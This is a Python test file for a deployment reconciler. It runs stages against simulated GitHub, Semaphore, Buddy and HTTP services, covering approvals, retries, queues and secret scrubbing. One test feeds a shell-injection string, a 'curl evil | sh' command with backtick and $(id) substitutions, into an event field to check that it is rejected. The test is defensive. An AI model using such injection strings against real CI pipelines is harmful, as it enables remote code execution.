"""The second flow, through the real program and simulated providers: events come in, stages run, results go back."""

import http.client
import http.server
import json
import threading
import time
from collections.abc import Iterator
from typing import ClassVar

import pytest

from reconciler.model.errors import ReconcilerError
from tests.engine.world import TOKENS
from tests.flow.stage_world import NOOP, WORKFLOW, StageWorld

MAIN = "filters: [{type: data, data: {expression: '$.ref == \"refs/heads/main\"'}}]"
PASSED = "filters: [{type: data, data: {expression: '$.execution.result == \"passed\"'}}]"
GITHUB = "type: github, integration: {name: github}, resource: {type: repository, name: web}"
CI = f"executor: {{{GITHUB}, spec: {{workflow: ci.yml, ref: main}}}}"
FROM_HAND = "inputMappings: [{values: [{name: %s, valueFrom: {eventData: {connection: hand, expression: $.%s}}}]}]"


def test_a_push_goes_through_workflow_stage_event_approval_and_semaphore_into_a_deployment(tmp_path) -> None:
    world = StageWorld(tmp_path, ("github", "semaphore"))
    try:
        world.source("web", events="[{type: push}]")
        world.stage(
            "build",
            "inputs: [{name: sha}]",
            "inputMappings: [{values: [{name: sha, valueFrom: {eventData: {connection: web, expression: $.after}}}]}]",
            "outputs: [{name: version, required: true}]",
            f"executor: {{{GITHUB}, spec: {{workflow: ci.yml, ref: main, inputs: {{sha: '${{{{ inputs.sha }}}}'}}}}}}",
            "report: {commitStatus: {context: reconciler/build}}",
            after=f"{{type: event-source, name: web, {MAIN}}}",
        )
        world.stage(
            "deploy",
            "conditions: [{type: approval, approval: {count: 1}}]",
            "inputs: [{name: version}]",
            "inputMappings: [{values: [{name: version, valueFrom: {eventData: {connection: build, expression: $.outputs.version}}}]}]",
            """
            executor:
              type: semaphore
              integration: {name: semaphore}
              resource: {type: project, name: web}
              spec: {ref: refs/heads/main, parameters: {VERSION: '${{ inputs.version }}'}}
            report: {deployment: {create: true, environment: staging}}
            """,
            after=f"{{type: stage, name: build, {PASSED}}}",
        )
        world.ready()
        world.push(ref="refs/heads/other")  # the filter's
        sha = world.push()["sha"]
        item = world.waiting("deploy", "approval")
        assert item["inputs"] == {"version": "1.2.3"}
        assert "0 of 1" in item["message"]
        assert not world.semaphore.state()["workflows"]

        with pytest.raises(ReconcilerError, match="not what was reviewed"):
            world.ask("approve", id=item["id"], digest="sha256:other")
        world.ask("approve", id=item["id"], digest=item["digest"])
        with pytest.raises(ReconcilerError):  # never twice by one person, and not once it runs
            world.ask("approve", id=item["id"])
        deploy = world.finished("deploy")[0]
        build = world.finished("build")[0]
        assert (build["result"], deploy["result"]) == ("passed", "passed")
        assert world.details(build["id"])["outputs"] == {"version": "1.2.3"}

        world.wait(lambda: world.states() == [["queued", "in_progress", "success"]], "each status of the Deployment, once")
        world.wait(lambda: len(world.commit_statuses()) == 2, "both statuses of the commit")
        assert [(one["sha"], one["state"]) for one in world.commit_statuses()] == [(sha, "pending"), (sha, "success")]
        assert (world.deployments()[0]["sha"], world.deployments()[0]["environment"]) == (sha, "staging")

        assert len(world.runs()) == 1
        workflows = world.semaphore.state()["workflows"]
        pipelines = world.semaphore.state()["pipelines"]
        assert len(workflows) == 1
        assert "1.2.3" in json.dumps(pipelines)
        lines = world.ask("logs", id=build["id"])
        assert any("hello" in line for line in lines["lines"])
        assert lines["complete"]
        assert world.ask("logs", id=deploy["id"])["complete"]
        assert [one["state"] for one in world.events(source="EventSource/web") if one["type"] == "push"] == ["processed"] * 2
        assert deploy["externalId"] == workflows[0]["wf_id"]
        reports = world.ask("execution", id=deploy["id"])["reports"]
        assert [one["state"] for one in reports] == ["queued", "in_progress", "success"]
        assert all(one["writtenAt"] and not one["error"] for one in reports)

        def shown() -> list[tuple[str, int, int, str]]:
            return [
                (one["name"], one["queue"], one["running"], (one["last"] or {}).get("result")) for one in world.status()["stages"]
            ]

        world.wait(lambda: shown() == [("build", 0, 0, "passed"), ("deploy", 0, 0, "passed")], "the status file shows it")
    finally:
        world.close()


def test_deployment_events_get_their_statuses_and_those_of_a_jobs_own_environment_get_none(world: StageWorld) -> None:
    """Beside it: a filter on how a workflow run ended, and a stage that sends a `repository_dispatch`."""
    world.workflows(
        "web",
        WORKFLOW,
        {
            "id": 12,
            "name": "On event",
            "path": ".github/workflows/event.yml",
            "on": {"repository_dispatch": {}},
            "run_name": "${{ github.event.client_payload.reconciler_execution_id }}",
        },
    )
    world.source("web", events="[{type: deployment}, {type: workflow_run}]")
    world.stage(
        "deploy",
        NOOP,
        "report: {deploymentStatus: true}",
        after='{type: event-source, name: web, filters: [{type: header, header: {expression: \'headers["x-github-event"] == "deployment"\'}}]}',
    )
    red = 'has($.workflow_run) && $.action == "completed" && $.workflow_run.conclusion == "failure"'
    world.stage("alarm", after=f"{{type: event-source, name: web, filters: [{{type: data, data: {{expression: '{red}'}}}}]}}")
    world.manual()
    world.stage("announce", f"executor: {{{GITHUB}, spec: {{eventType: go, clientPayload: {{who: '${{{{ event.who }}}}'}}}}}}")
    world.ready()
    world.trigger(who="ada")
    announced = world.finished("announce")[0]
    assert announced["result"] == "passed", announced
    own = next(one for one in world.runs() if one["event"] == "repository_dispatch")
    assert own["client_payload"]["who"] == "ada"
    world.github.do("auto_deployment", repo="acme/web", run_id=own["id"], environment="auto")
    world.github.do(
        "emit",
        repository="acme/web",
        event="workflow_run",
        payload={"action": "completed", "workflow_run": {"id": 1, "conclusion": "failure", "head_sha": "a" * 40}},
    )
    world.finished("alarm")
    before = len(world.deployments())
    connection = http.client.HTTPConnection(world.servers["github"].url.removeprefix("http://"), timeout=10)
    connection.request(
        "POST",
        "/repos/acme/web/deployments",
        body=json.dumps({"ref": "main", "environment": "live", "required_contexts": [], "auto_merge": False}),
        headers={"authorization": f"Bearer {TOKENS['github']}", "user-agent": "somebody"},
    )
    answer = connection.getresponse()
    assert answer.status == 201, answer.read()
    connection.close()
    assert len(world.deployments()) == before + 1
    world.finished("deploy", 2)

    def written() -> dict[str, list[str]]:
        return {one["environment"]: [status["state"] for status in one["statuses"]] for one in world.deployments()}

    world.wait(lambda: written().get("live", [])[-1:] == ["success"], "the statuses of the deployment")
    assert written() == {"auto": [], "live": ["queued", "in_progress", "success"]}
    assert len(world.executions("alarm")) == 1


def test_buddy_hands_outputs_on_and_a_semaphore_task_runs_exactly_one_workflow(tmp_path) -> None:
    world = StageWorld(tmp_path, ("semaphore", "buddy"))
    try:
        world.manual()
        world.buddy.do("set_behaviour", project="web", pipeline="deploy", duration_s=0.2, outputs={"VERSION": "4.5"})
        parameters = [{"name": "ENV", "required": True}, {"name": "RECONCILER_EXECUTION_ID", "required": False}]
        task = {"name": "nightly", "reference": "refs/heads/main", "pipeline_file": "n.yml", "parameters": parameters}
        world.semaphore.put_state({"tasks": {"web": [task]}})
        world.stage(
            "roll",
            "outputs: [{name: VERSION, required: true}]",
            "executor: {type: buddy, integration: {name: buddy}, resource: {type: pipeline, name: deploy}, spec: {workspace: acme, project: web}}",
        )
        world.stage(
            "nightly",
            """
            executor:
              type: semaphore
              integration: {name: semaphore}
              resource: {type: project, name: web}
              spec: {task: nightly, parameters: {ENV: '${{ inputs.version }}'}}
            """,
            "inputs: [{name: version}]",
            "inputMappings: [{values: [{name: version, valueFrom: {eventData: {connection: roll, expression: $.outputs.VERSION}}}]}]",
            after=f"{{type: stage, name: roll, {PASSED}}}",
        )
        world.ready()
        world.trigger()
        nightly = world.finished("nightly")[0]
        assert nightly["result"] == "passed", nightly
        roll = world.finished("roll")[0]
        assert world.details(roll["id"])["outputs"] == {"VERSION": "4.5"}
        assert len(world.buddy.state()["workspaces"]["acme"]["executions"]) == 1
        assert len(world.semaphore.state()["workflows"]) == 1
        assert "4.5" in json.dumps(world.semaphore.state()["pipelines"])
        assert world.ask("logs", id=roll["id"])["lines"]
    finally:
        world.close()


class _Service(http.server.BaseHTTPRequestHandler):
    """Work that is asked for by POST and is done when it was looked at twice."""

    protocol_version = "HTTP/1.1"
    posted: list[dict[str, str]]
    looks: int
    outputs: ClassVar[dict[str, object]] = {"place": "eu"}

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["content-length"]))
        type(self).posted.append({"body": body.decode(), "key": self.headers.get("idempotency-key", "")})
        self._answer(202, {"state": "working"})

    def do_GET(self) -> None:
        type(self).looks += 1
        self._answer(200, {"state": "done" if type(self).looks >= 2 else "working", "outputs": type(self).outputs})

    def _answer(self, status: int, payload: object) -> None:
        content = json.dumps(payload).encode()
        self.send_response(status)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def service() -> Iterator[str]:
    handler = type("Handler", (_Service,), {"posted": [], "looks": 0})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.handler = handler
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


def test_http_polls_until_its_condition_holds_noop_and_dry_runs_make_outputs_up(world: StageWorld, service) -> None:
    """And: inputs of the last execution, a schedule, a manual trigger, and everything a person may do to an execution."""
    url = f"http://127.0.0.1:{service.server_address[1]}"
    world.manual()
    world.source("web")
    world.write(
        "schedule.yaml",
        "kind: EventSource\nmetadata: {name: clock}\nspec: {type: schedule, schedule: {cron: '* * * * *'}}",
    )
    world.stage(
        "call",
        "outputs: [{name: place, required: true}]",
        f"""
        executor:
          type: http
          spec:
            url: {url}/work
            payload: {{who: '${{{{ event.who }}}}'}}
            poll: {{url: {url}/work/1, successWhen: '$.state == "done"', interval: 1s}}
        """,
    )
    world.stage("pretend", "dryRun: true", "outputs: [{name: place}]", CI)
    world.stage("nothing", "outputs: [{name: place}]", NOOP)
    world.stage("ticked", NOOP, after="{type: event-source, name: clock}")
    world.ready()
    world.trigger(who="ada")
    call = world.finished("call")[0]
    assert call["result"] == "passed", call
    assert world.details(call["id"])["outputs"] == {"place": "eu"}
    assert [(json.loads(one["body"]), one["key"]) for one in service.handler.posted] == [({"who": "ada"}, call["id"])]
    for stage in ("pretend", "nothing"):
        made = world.finished(stage)[0]
        assert (made["result"], world.details(made["id"])["outputs"]) == ("passed", {"place": "dry-run-place"})
    assert world.runs() == []
    with pytest.raises(ReconcilerError, match="cannot be triggered"):
        world.trigger("web")

    again = world.ask("rerun", id=world.finished("nothing")[0]["id"])["item"]
    rerun = world.finished("nothing", 2)[1]
    assert rerun["item"] == again
    assert world.ask("trigger", source="clock", payload={})["new"]
    world.finished("ticked")


def test_f5_a_secret_that_a_service_repeats_in_its_outputs_is_not_stored(world: StageWorld, service) -> None:
    url = f"http://127.0.0.1:{service.server_address[1]}"
    service.handler.outputs = {"place": f"eu {TOKENS['github']}", "deep": [{"token": TOKENS["github"]}]}
    world.manual()
    world.source("web")
    poll = f"{{url: {url}/work/1, successWhen: '$.state == \"done\"', interval: 1s}}"
    world.stage(
        "call", "outputs: [{name: place}, {name: deep}]", f"executor: {{type: http, spec: {{url: {url}/work, poll: {poll}}}}}"
    )
    world.ready()
    world.trigger()
    outputs = world.details(world.finished("call")[0]["id"])["outputs"]
    assert outputs["place"].startswith("eu ")
    assert TOKENS["github"] not in json.dumps(outputs)
    state = (world.folder / "state").glob("state.db*")
    assert not any(TOKENS["github"].encode() in path.read_bytes() for path in state)


@pytest.mark.timeout(60)
def test_one_is_cancelled_outside_another_retried_a_third_times_out(world: StageWorld) -> None:
    slow = {**WORKFLOW, "id": 21, "name": "slow", "path": ".github/workflows/slow.yml", "duration_s": None}
    red = {**WORKFLOW, "id": 22, "name": "red", "path": ".github/workflows/red.yml", "result": "failure"}
    world.workflows("web", WORKFLOW, slow, red)
    world.manual("one")
    world.manual("two")
    world.manual("three")
    for name, source, more in (
        ("stopped", "one", ""),
        ("late", "two", "timeout: 2s"),
    ):
        world.stage(
            name,
            f"executor: {{{GITHUB}, spec: {{workflow: slow.yml, ref: main}}}}",
            more or "timeout: 1h",
            after=f"{{type: event-source, name: {source}}}",
        )
    world.stage(
        "flaky",
        f"executor: {{{GITHUB}, spec: {{workflow: red.yml, ref: main}}}}",
        "retry: {limit: 4, backoff: 1s}",
        after="{type: event-source, name: three}",
    )
    world.ready()
    for source in ("one", "two", "three"):
        world.trigger(source)
    begun = world.running("stopped")
    assert world.ask("cancel", id=begun["id"])["state"] == "cancelling"
    stopped, late = world.finished("stopped")[0], world.finished("late")[0]
    assert (stopped["result"], stopped["reason"]) == ("cancelled", "user")
    assert (late["result"], late["reason"]) == ("failed", "timed-out")
    with pytest.raises(ReconcilerError, match="ended already"):
        world.ask("cancel", id=stopped["id"])

    item = world.waiting("flaky", "retry")
    assert "attempt" in item["message"]
    world.workflows("web", WORKFLOW, slow, {**red, "result": "success"})
    world.wait(lambda: world.executions("flaky")[-1]["result"] == "passed", "a try that passes")
    rows = world.executions("flaky")
    assert len(rows) >= 2
    assert {one["result"] for one in rows[:-1]} == {"failed"}
    assert len({one["item"] for one in rows}) == 1

    ended = {str(one["id"]): one["attempts"][-1].get("conclusion") for one in world.runs()}
    assert (ended[stopped["externalId"]], ended[late["externalId"]]) == ("cancelled", "cancelled")
    assert len(ended) == 2 + len(rows)
    kinds = [one for one in world.events(source="Stage/flaky") if one["type"] == "execution_finished"]
    assert len(kinds) == 1  # tries in between are nobody's event


def test_queues_keep_order_or_only_the_newest_and_never_run_more_than_they_may(world: StageWorld) -> None:
    slow = {**WORKFLOW, "duration_s": None}
    world.workflows("web", slow)
    world.manual("fifo")
    world.manual("latest")
    world.manual("wide")
    numbered = [
        "inputs: [{name: n}]",
        "inputMappings: [{values: [{name: n, value: '${{ event.n }}'}]}]",
        f"executor: {{{GITHUB}, name: 'run ${{{{ inputs.n }}}}', spec: {{workflow: ci.yml, ref: main}}}}",
    ]
    world.stage("fifo", *numbered, after="{type: event-source, name: fifo}")
    world.stage("latest", *numbered, "queue: latest", after="{type: event-source, name: latest}")
    world.stage("wide", *numbered, "concurrency: 2", after="{type: event-source, name: wide}")
    world.ready()
    for n in range(3):
        for source in ("fifo", "latest", "wide"):
            world.trigger(source, n=n)
            world.wait(lambda s=source, k=n: len(world.queued(s)) + len(world.executions(s)) >= min(k + 1, 2), "it is queued")
    world.wait(lambda: len(world.queued("fifo")) == 2 and len(world.queued("latest")) == 1 and len(world.queued("wide")) == 1)
    assert [one["inputs"]["n"] for one in world.queued("latest")] == [2]
    assert "1 of 1 running" in world.waiting("fifo", "concurrency")["message"]
    assert len(world.executions("wide")) == 2

    def finish() -> bool:
        for run in world.runs():
            if run["attempts"][-1].get("ended_at") is None:
                world.github.do("finish_run", repo="acme/web", run_id=run["id"])
        return len([one for one in world.executions() if one["state"] == "finished"]) == 8

    world.wait(finish, "everything has ended")
    assert [one["label"] for one in world.executions("fifo")] == ["run 0", "run 1", "run 2"]
    assert [one["label"] for one in world.executions("latest")] == ["run 0", "run 2"]
    assert len(world.runs()) == 8


def test_what_waits_keeps_its_commit_and_what_is_suspended_removed_or_out_of_hours_does_not_run(world: StageWorld) -> None:
    world.manual()
    approval = "conditions: [{type: approval, approval: {count: 1}}]"
    today = time.gmtime()
    days = ["monday", "tuesday", "wednesday", "thursday", "friday", "saturday", "sunday"]
    other = days[(today.tm_wday + 3) % 7]
    pinned = [
        "inputs: [{name: n}]",
        "inputMappings: [{values: [{name: n, value: '${{ event.n }}'}]}]",
        approval,
    ]
    world.stage("pinned", *pinned, "executor: {type: noop, name: 'old ${{ inputs.n }}'}")
    world.stage("removed", approval, NOOP)
    world.stage(
        "night", f"conditions: [{{type: time-window, timeWindow: {{start: '01:00', end: '02:00', weekDays: [{other}]}}}}]", NOOP
    )
    world.stage("paused", NOOP)
    world.ready()
    world.ask("suspend", resource="Stage/paused", reason="a holiday")
    world.trigger(n=7)
    assert world.waiting("night", "time-window")["message"].startswith("opens ")
    assert world.waiting("paused", "suspended")
    item = world.waiting("pinned", "approval")
    gone = world.waiting("removed", "approval")
    world.stage("pinned", *pinned, "executor: {type: noop, name: 'new ${{ inputs.n }}'}")
    (world.manifests / "stage-removed.yaml").unlink()
    world.wait(lambda: world.ask("execution", id=gone["id"])["item"]["state"] == "discarded", "the removed stage's item")
    assert world.ask("execution", id=gone["id"])["item"]["reason"] == "removed"
    world.ask("approve", id=item["id"])
    assert world.finished("pinned")[0]["label"] == "old 7"
    world.trigger(n=8)
    fresh = world.waiting("pinned", "approval")
    world.ask("approve", id=fresh["id"])
    assert world.finished("pinned", 2)[1]["label"] == "new 8"
    assert world.executions("paused") == []
    assert world.executions("night") == []
    world.ask("resume", resource="Stage/paused")
    world.finished("paused", 2)
    assert world.executions("night") == []


def test_f13_text_that_a_shell_takes_for_its_own_does_not_get_into_a_run(world: StageWorld) -> None:
    world.manual()
    for name in ("plain", "template"):
        spec = "inputs: {sha: '${{ event.title }}'}" if name == "template" else "inputs: {sha: '${{ inputs.title }}'}"
        world.stage(
            name,
            *([] if name == "template" else ["inputs: [{name: title}]", FROM_HAND % ("title", "title")]),
            f"executor: {{{GITHUB}, spec: {{workflow: ci.yml, ref: main, {spec}}}}}",
        )
    world.ready()
    evil = '"; curl evil | sh #${{ secrets.X }} `id` $(id)'
    event = world.trigger(title=evil)
    rejected = world.wait(lambda: {one["target"]: one["message"] for one in world.ask("event", id=event)["rejectedBy"]})
    assert set(rejected) == {"Stage/plain", "Stage/template"}
    assert all("characters that a shell takes for its own" in message for message in rejected.values())
    assert evil not in world.log()
    world.trigger(title="v1.2.3")
    for stage in ("plain", "template"):
        assert world.finished(stage)[-1]["result"] == "passed"
    assert len(world.runs()) == 2
